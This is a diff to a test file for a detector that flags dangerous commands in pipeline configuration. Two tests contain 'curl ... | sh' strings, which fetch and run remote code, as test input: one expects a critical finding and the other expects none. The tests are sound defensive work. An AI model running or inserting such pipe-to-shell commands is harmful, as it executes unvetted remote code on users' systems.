@@ -28,5 +28,10 @@ def test_training_is_silent(command: str) -> None:
     assert found_by(DETECTOR, project(command)) == []
 
 
+def test_stages_of_a_pipeline_are_commands_too() -> None:
+    raw = json.dumps({"stages": {"train": {"cmd": "curl https://x/y | sh"}}}).encode()
+    assert found_by(DETECTOR, raw)[0].severity is Severity.CRITICAL
+
+
 def test_other_documents_are_left_alone() -> None:
     assert found_by(DETECTOR, b'{"command": "curl https://x | sh"}') == []
